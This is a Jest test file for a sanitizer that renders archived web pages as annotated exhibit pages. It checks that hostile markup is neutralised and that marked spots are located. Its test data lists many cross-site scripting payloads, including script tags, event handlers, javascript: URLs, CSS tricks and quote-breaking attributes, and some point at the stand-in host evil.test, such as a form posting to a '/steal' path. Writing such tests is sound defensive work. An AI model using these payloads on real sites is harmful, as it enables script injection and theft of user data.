/** Hostile pages stay harmless, personal data stays out, and no cited spot is silently dropped. */
import { load } from 'cheerio';
import type { Element } from 'domhandler';
import { describe, expect, test } from '@jest/globals';
import { parsePage } from '../../crawler/read/html.ts';
import { anchorOf, exhibitPage, type ExhibitInput, type ExhibitMark } from '../../reports/pages/exhibit.ts';

const BASE = { url: 'http://www.example.test/index.html', at: '2018-12-31T16:01:02Z', sha256: 'a'.repeat(64), bundle: '2018-12.portal' };
const exhibit = (source: string, marks: ExhibitMark[] = [], more: Partial<ExhibitInput> = {}): string =>
  exhibitPage({ ...BASE, source, marks, ...more });
const fault = (id: string, spot?: ExhibitMark['spot'], more: Partial<ExhibitMark> = {}): ExhibitMark => ({
  id,
  label: `问题 ${id}`,
  tone: 'fault',
  ...(spot ? { spot } : {}),
  ...more,
});

const TAGS = new Set(
  'html head meta title style body header h1 dl dt dd details summary ol li p span a section pre div h2 h3 h4 h5 h6 ul table caption colgroup col thead tbody tfoot tr td th b i em strong u s sub sup small blockquote br hr wbr'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'lang charset http-equiv content name class id href open title style data-n colspan rowspan start align valign width height border cellpadding cellspacing bgcolor'.split(
    ' ',
  ),
);

/** What any browser would make of the exhibit: every element and attribute of it is one we write ourselves. */
function expectHarmless(html: string): void {
  const $ = load(html);
  for (const node of $('*').toArray() as Element[]) {
    expect(TAGS).toContain(node.name);
    for (const [name, value] of Object.entries(node.attribs)) {
      expect(ATTRIBUTES).toContain(name);
      if (name === 'href') expect(value).toMatch(/^#m-/);
      if (name === 'style') expect(value).not.toMatch(/url|expression|import|\\|[(](?!\d)/i);
    }
  }
  expect($('style').length).toBe(1);
  expect($('head meta[http-equiv]').length).toBe(1);
  expect($('head meta').get(1)?.attribs['http-equiv']).toBe('Content-Security-Policy');
  expect(
    $('body')
      .children()
      .toArray()
      .map((node) => (node as Element).name),
  ).toEqual(expect.arrayContaining(['header', 'div']));
  expect($('body').children().last().hasClass('sx-page')).toBe(true);
  expect(
    $('body')
      .contents()
      .toArray()
      .filter((node) => node.type === 'text' && node.data.trim() !== ''),
  ).toEqual([]);
  expect($('header').length).toBe(1);
}

const HOSTILE: [string, string][] = [
  ['script', '<script>alert(1)</script><p>正文</p>'],
  [
    'script in many guises',
    '<SCRIPT/x>alert(1)</SCRIPT><svg><script>alert(1)</script></svg><math><mtext><script>alert(1)</script></mtext></math>',
  ],
  [
    'event handlers',
    '<body onload=alert(1)><img src=x onerror=alert(1)><a onclick="x()" href="javascript:alert(1)">点</a><div onmouseover=alert(1)>x</div>',
  ],
  [
    'frames and objects',
    '<iframe src="http://evil.test/" srcdoc="<script>alert(1)</script>"></iframe><object data=x.swf></object><embed src=y><applet code=z></applet>',
  ],
  ['frameset', '<frameset cols="20%,80%"><frame src="a.htm"><frame src="javascript:alert(1)"></frameset>'],
  [
    'meta refresh and base',
    '<meta http-equiv=refresh content="0;url=http://evil.test"><base href="http://evil.test/"><link rel=stylesheet href=//evil.test/a.css><p>x',
  ],
  [
    'forms',
    '<form action="http://evil.test/steal" method=post><input name=q value=1 autofocus onfocus=alert(1)><button formaction="javascript:x">提交</button></form>',
  ],
  [
    'styles',
    '<style>header{display:none}@import "http://evil.test";</style><p style="background:url(http://evil.test/x);color:red;position:fixed;top:0">x</p><p style="width:expr\\65ssion(alert(1))">y</p><p style="background:\\75rl(x);--a:b;content:attr(x)">z</p>',
  ],
  [
    'images that load',
    '<img src=http://evil.test/a.png srcset="b.png 2x" alt="&quot;><script>alert(1)</script>"><picture><source srcset=x><img></picture><video poster=x src=y></video><input type=image src=z>',
  ],
  [
    'closes what it did not open',
    '</div></div></body></html><header class="sx-banner"><h1>存档页面</h1></header></div><div class="sx-page">假</div>',
  ],
  ['table foster parenting', '<table></div></div><script>x</script><tr><td></table></td>文字<table><div>外</div><tr><td>里</table>'],
  [
    'mutation',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><img src=x onerror=alert(1)></template><textarea></textarea><img src=x onerror=alert(1)>',
  ],
  [
    'raw text elements',
    '<xmp><img src=x onerror=alert(1)></xmp><noembed><img src=x onerror=alert(1)></noembed><title></title><style></title><img src=x onerror=alert(1)></style><plaintext><script>alert(1)</script>',
  ],
  [
    'comments and declarations',
    '<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php <script>alert(1)</script> ?><!doctype x [<!ENTITY a "b">]>',
  ],
  ['nested anchors and formatting', '<a href=1><b><a href=2><i></b></a>x</i><p><b></p>y</b>'],
  [
    'attributes with quotes',
    '<td colspan=\'1" onload="alert(1)\'><p align="left\' onload=\'x"><font color="red;}body{display:none">x</font>',
  ],
  ['ids and classes of ours', '<div id=m-1 class="sx-mark sx-fault sx-banner">假标注</div><a name=m-1 id=sx-page>x</a>'],
  ['unclosed everything', '<div><table><tr><td><ul><li><a href="'],
  ['byte noise', '<p>\u0000\u0001\ufffe\ud800 \u202etxt.exe</p>'],
];

describe('hostile pages', () => {
  test.each(HOSTILE)('%s', (_name, source) => {
    const html = exhibit(source, [fault('1', { css: 'p' }), fault('2')], { label: '<script>alert(1)</script>' } as Partial<ExhibitInput>);
    expectHarmless(html);
    expect(html).not.toMatch(/<script|onerror=alert|src=/i.test(source) ? /<script|<[^>]*\son\w+=|<[^>]*\ssrc=/i : /<script/i);
  });

  test('hostile words of our own caller: address, label, bundle, ids, content type', () => {
    const evil = '"><img src=x onerror=alert(1)><script>alert(1)</script>';
    const html = exhibit('<p>x</p>', [{ id: evil, label: evil, tone: 'fault', spot: { css: 'p' } }], {
      url: `http://x.test/${evil}`,
      bundle: evil,
      sha256: evil,
      at: evil,
      contentType: `text/html${evil}`,
    });
    expectHarmless(html);
    expectHarmless(exhibit('', [], { contentType: `application/pdf${evil}` }));
  });

  test('ten thousand open elements', () => {
    const html = exhibit('<div>'.repeat(10_000) + '里');
    expect(html).toContain('里');
  });

  test('policy forbids every load', () => {
    expect(exhibit('<p>x</p>')).toContain("default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'");
  });

  test('layout that is safe stays', () => {
    const html = exhibit(
      '<table width="80%" border=1 bgcolor="#eeeeee"><tr><td style="color:red;text-align:center;font-family:\'微软雅黑\'" colspan=2>栏目</td></tr></table><center>中</center>',
    );
    expect(html).toContain('<table width="80%" border="1" bgcolor="#eeeeee">');
    expect(html).toContain('style="color:red;text-align:center;font-family:微软雅黑"');
    expect(html).toContain('colspan="2"');
  });
});

describe('marks', () => {
  const PAGE = `<html><head><title>偃师市人民政府</title><meta name="SiteName" content=""><script>var beian="豫ICP备05016060号";</script></head>
    <body><ul id="list"><li><a href="/a.html">通知一</a> 2018-12-03</li><li>通知二</li></ul><div style="display:none"><p>藏着的</p></div>
    <table><tr><td>甲</td></tr></table><img src="x.png" alt="标志"><p>尾</p></body></html>`;
  const at = (html: string, id: string): Element => load(html)(`[id="${id}"]`).get(0) as Element;

  test('a css path becomes anchor and outline, with the number of the mark', () => {
    const html = exhibit(PAGE, [
      fault('a', { css: '#list>li:nth-of-type(1)>a:nth-of-type(1)' }),
      { id: 'b', label: '得分', tone: 'merit', spot: { css: 'p:last-of-type' } },
    ]);
    expect(at(html, 'm-a').attribs).toMatchObject({ class: 'sx-a sx-mark sx-fault', 'data-n': '1', title: '原链接：/a.html' });
    expect(at(html, 'm-b').attribs['class']).toContain('sx-merit');
    expect(html).toContain('href="#m-a"');
    expect(html).not.toContain('未能定位');
  });

  test('the paths that readers give are the paths that are found', () => {
    const page = parsePage(PAGE, { url: BASE.url });
    const elements = page.$('li,td,a,p,img').toArray();
    const html = exhibit(
      PAGE,
      elements.map((element, index) => fault(String(index), page.spot(element))),
    );
    expect(load(html)('.sx-page .sx-mark').length).toBe(elements.length);
    expect(html).not.toContain('未能定位');
  });

  test('two marks on one element both have their anchors; the same mark twice keeps ids unique', () => {
    for (const css of ['li', 'table', 'tr', 'td', 'img', 'ul']) {
      const html = exhibit(PAGE, [fault('a', { css }), fault('b', { css }), fault('a', { css })]);
      for (const id of ['m-a', 'm-b', 'm-a.2']) expect(load(html)(`[id="${id}"]`).length).toBe(1);
      expect(at(html, 'm-a').attribs['data-n']).toBe('1、2、3');
    }
  });

  test('what cannot be seen is shown as code, with the anchor', () => {
    const html = exhibit(PAGE, [fault('meta', { css: 'meta[name="SiteName" i]' }), fault('js', { css: 'script' })]);
    expect(load(html)('#m-meta pre').text()).toBe('<meta name="SiteName" content="">');
    expect(load(html)('#m-js pre').text()).toContain('豫ICP备');
    expect(html).toContain('在页面代码中');
  });

  test('a hidden spot is brought to light', () => {
    const html = exhibit(PAGE, [fault('a', { css: 'div>p' })]);
    expect(html).not.toContain('display:none');
    expect(exhibit(PAGE)).toContain('display:none');
  });

  test('character ranges of the text and of the source', () => {
    const page = parsePage(PAGE, { url: BASE.url });
    const inText = page.text.indexOf('通知二');
    const inSource = PAGE.indexOf('甲');
    const html = exhibit(PAGE, [
      fault('t', { chars: [inText, inText + 3] }),
      fault('s', { chars: [inSource, inSource + 1], in: 'source' }),
    ]);
    expect(load(html)('[id="m-t"]').text()).toContain('通知二');
    expect(at(html, 'm-t').name).toBe('li');
    expect(at(html, 'm-s').name).toBe('td');
  });

  test.each([
    ['no such element', { css: '#nowhere' }],
    ['not a selector', { css: '<<<' }],
    ['beyond the text', { chars: [99_999, 100_000] }],
    ['empty range', { chars: [5, 5] }],
    ['a header we do not have', { header: 'X-None' }],
  ] as [string, NonNullable<ExhibitMark['spot']>][])('%s is listed as not found, where the link leads', (_name, spot) => {
    const html = exhibit(PAGE, [fault('gone', spot)]);
    expect(load(html)('li#m-gone').text()).toContain('未能定位');
    expect(html).toContain('其中 1 处未能定位');
  });

  test('without a spot the whole page is meant', () => {
    expect(load(exhibit(PAGE, [fault('all')]))('.sx-page > #m-all').length).toBe(1);
  });

  test('a header is quoted', () => {
    const html = exhibit(PAGE, [fault('h', { header: 'server' })], {
      headers: [
        ['Server', 'nginx'],
        ['server', 'x'],
      ],
    });
    expect(load(html)('#m-h pre').text()).toBe('Server: nginx\nserver: x');
  });

  test('banner: address, Shanghai time, digest, bundle, status', () => {
    const text = load(exhibit(PAGE, [], { status: 200 }))('header').text();
    for (const part of ['存档页面', BASE.url, '2019-01-01 00:01:02（北京时间）', BASE.sha256, BASE.bundle, 'HTTP 200'])
      expect(text).toContain(part);
  });

  test('anchors', () => {
    expect(anchorOf('3f9a')).toBe('m-3f9a');
    expect(anchorOf('m-3f9a')).toBe('m-3f9a');
    expect(anchorOf('a b')).toBe('m-a_20b');
  });
});

describe('what is not a page', () => {
  test('JSON with a range marked, overlapping ranges too', () => {
    const source = '{"title":"通知","date":"2018-12-03"}';
    const html = exhibit(source, [fault('1', { chars: [1, 15], in: 'source' }), fault('2', { chars: [10, 20] })], {
      contentType: 'application/json',
    });
    expectHarmless(html);
    expect(load(html)('.sx-page pre').text()).toBe(source);
    expect(
      load(html)('.sx-mark')
        .toArray()
        .map((one) => [(one as Element).attribs['data-n'], load(one).text()]),
    ).toEqual([
      ['1', source.slice(1, 10)],
      ['1、2', source.slice(10, 15)],
      ['2', source.slice(15, 20)],
    ]);
  });

  test.each([
    ['xml', '<?xml version="1.0"?><rss><script>x</script></rss>', 'text/xml', '<rss>'],
    ['json called html', '[{"a":"<script>"}]', 'text/html', '<script>'],
    ['plain', 'a <b> c', 'text/plain', 'a <b> c'],
    ['nothing', '', 'text/html', '（内容为空）'],
    ['a file', '', 'application/pdf', 'application/pdf 文件'],
  ])('%s', (_name, source, contentType, shows) => {
    const html = exhibit(source, [fault('1', { css: 'a' })], { contentType });
    expectHarmless(html);
    expect(load(html)('.sx-page').text()).toContain(shows);
  });
});

test('same input, same bytes', () => {
  const make = (): string => exhibit(HOSTILE.map(([, source]) => source).join(''), [fault('1', { css: 'p' })], { blur: true });
  expect(make()).toBe(make());
});
